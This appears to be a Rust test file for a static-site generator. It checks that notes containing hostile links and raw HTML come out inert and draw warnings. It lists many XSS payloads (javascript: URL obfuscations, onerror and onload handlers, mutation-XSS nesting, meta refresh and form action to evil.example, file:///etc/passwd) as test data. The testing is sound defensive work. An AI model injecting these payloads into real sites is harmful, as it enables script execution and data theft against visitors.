//! Hostile notes, from outside (rows T32 to T42): their published parts are inert, and nothing takes long.

mod bombs;
pub mod inert;
mod names;

use crate::support::{Run, Vault, files};
use inert::Inert;

fn build(vault: &Vault) -> Run {
    vault.run(&["build", "vault", "--out", "public", "--date", "2024-10-27"])
}

fn read(vault: &Vault, path: &str) -> String {
    std::fs::read_to_string(vault.path("public").join(path)).unwrap_or_else(|error| panic!("{path}: {error}"))
}

/// Bytes.
fn size(vault: &Vault, path: &str) -> u64 {
    std::fs::metadata(vault.path("public").join(path)).unwrap_or_else(|error| panic!("{path}: {error}")).len()
}

#[expect(clippy::disallowed_methods, reason = "tests make the files they are about")]
fn write_bytes(vault: &Vault, path: &str, bytes: &[u8]) {
    std::fs::write(vault.path("vault").join(path), bytes).expect("a file");
}

/// Builds a vault of one note beside a harmless one, and checks every page.
fn build_note(text: &str) -> (Vault, Run) {
    let vault = Vault::new(&[("note.md", text), ("other.md", "[[note]]\n\n![[note]]\n")]);
    let run = build(&vault);
    assert!(run.code == 0 || run.code == 1, "{text:?}: {}", run.stderr);
    assert!(!run.stderr.contains("internal::bug"), "{text:?}: {}", run.stderr);
    check(&vault);
    (vault, run)
}

/// Every file of the site parses and holds nothing active.
fn check(vault: &Vault) {
    let inert = Inert::new();
    for file in files(&vault.path("public")) {
        if file.ends_with(".html") {
            inert.html(&file, &read(vault, &file));
        } else if file.ends_with(".xml") {
            inert.xml(&file, &read(vault, &file));
        } else if file.ends_with(".json") {
            let parsed: Result<serde_json::Value, _> = serde_json::from_str(&read(vault, &file));
            assert!(parsed.is_ok(), "{file}: {parsed:?}");
        }
    }
}

/// URLs that must not be followed, each as it could be typed.
const URLS: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#106;avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&#9;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)",
    "java\u{1}script:alert(1)",
    "\u{a0}javascript:alert(1)",
    "java\u{ad}script:alert(1)",
    "javascript%3Aalert(1)",
    "%6aavascript:alert(1)",
    "\\javascript:alert(1)",
    "javascript\\:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://example.com/1",
    "view-source:https://example.com",
    "feed:javascript:alert(1)",
    "ws://example.com",
    "ftp://example.com",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "https:\\\\evil.example",
];

#[test]
fn no_url_of_a_foreign_scheme_is_linked_in_any_syntax() {
    for url in URLS {
        let mut text =
            format!("---\ncover: \"{0}\"\nsource: \"{0}\"\nimage: \"{0}\"\n---\n", url.replace('\\', "\\\\"));
        for syntax in [
            "[x](URL)",
            "[x](<URL>)",
            "![x](URL)",
            "<URL>",
            "[x][r]",
            "![x][r]",
            "[[URL]]",
            "[[URL|x]]",
            "![[URL]]",
            "[[x|URL]]",
            "[[a#URL]]",
            "<a href=\"URL\">x</a>",
            "<a href='URL'>x</a>",
            "<a href=URL>x</a>",
            "<a\nhref\n=\n\"URL\">x</a>",
            "<a/href=\"URL\"/x>x</a>",
            "<img src=\"URL\">",
            "<img srcset=\"URL 2x\">",
            "<iframe src=\"URL\"></iframe>",
            "<video src=\"URL\" poster=\"URL\"></video>",
            "<source srcset=\"URL\">",
            "<area href=\"URL\">",
            "<a xlink:href=\"URL\">x</a>",
            "<blockquote cite=\"URL\">x</blockquote>",
            "<td background=\"URL\">x</td>",
            "<div style=\"background: url(URL)\">x</div>",
            "<a href=\"https://example.com\" ping=\"URL\">x</a>",
            "URL",
            "`URL`",
        ] {
            text.push_str(&syntax.replace("URL", url));
            text.push_str("\n\n");
        }
        text.push_str(&format!("[r]: {url}\n"));
        build_note(&text);
    }
}

#[test]
fn a_refused_url_is_a_warning_with_its_place() {
    let vault = Vault::new(&[("a.md", "fine\n\nsee [x](javascript:alert(1))")]);
    let run = build(&vault);
    assert_eq!(run.code, 0);
    assert!(run.stderr.starts_with("warning[link::scheme]: ") && run.stderr.contains("--> a.md:3:"), "{}", run.stderr);
    assert_eq!(vault.run(&["build", "vault", "--strict"]).code, 1);
    assert!(!read(&vault, "a/index.html").contains("javascript:"));
}

/// Raw HTML that runs, loads, covers or leads where it should not.
const RAW_HTML: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=\"https://evil.example/x.js\"></script>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<script>alert(1)",
    "<script>\n🟩",
    "<textarea>🟩\n🟩<title>한글",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=alert(1)>",
    "<img src=\"x` `onerror=alert(1)\">",
    "<b onclick\u{c}=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"https://example.com\" srcdoc=\"x\" onload=alert(1) sandbox allow=\"camera\"></iframe>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>body { display: none }</style>",
    "<style>@import 'https://evil.example'",
    "<form action=\"https://evil.example\"><input name=password autofocus onfocus=alert(1)><button formaction=x>x</button></form>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\"><applet code=x></applet>",
    "<div style=\"position:fixed;inset:0;z-index:9\">x</div>",
    "<div style=\"background:url(https://evil.example)\">x</div>",
    "<div style=\"b\\61 ckground: u\\72l(https://evil.example)\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "</article></main></body></html><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title></title><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html [<!ENTITY x \"y\">]><script>alert(1)</script>",
    "<a href=\"#\" target=_blank accesskey=x tabindex=1 contenteditable draggable=true>x</a>",
    "<b id=\"kb-data\" name=\"kb-data\">{\"date\":\"x\"}</b>",
    "<div class=\"kb-header\" id=\"kb-main\">x</div>",
    "<p is=\"x-y\"><x-y onclick=alert(1)>x</x-y><slot></slot>",
    "a < b > c <3 <a",
];

#[test]
fn raw_html_has_no_effect() {
    let vault = Vault::new(&[]);
    // A note for each, so that a failure names what failed.
    for (number, html) in RAW_HTML.iter().enumerate() {
        let forms = [
            (*html).to_owned(),
            format!("text {html} text"),
            format!("- {html}"),
            format!("> {html}"),
            format!("| {html} |\n|---|\n| {html} |"),
            format!("# {html}\n\n[[note#{html}]]"),
            format!("[{html}](x) ![{html}](x.png) [[x|{html}]] ==**{html}**=="),
            format!("<div>\n\n{html}\n\n</div>"),
            format!("%%{html} **%% {html}"),
            format!("> [!note] {html}\n> {html}"),
            format!("x[^1]\n\n[^1]: {html}"),
            format!("${html}$ `{html}`\n\n```\n{html}\n```\n\n    {html}"),
        ];
        for (form, text) in forms.iter().enumerate() {
            vault.write(&format!("html {number} form {form}.md"), text);
        }
    }
    let run = build(&vault);
    assert!(run.code == 0 && run.stderr.contains("warning[html::unsafe]: "), "{}", run.stderr);
    check(&vault);
}
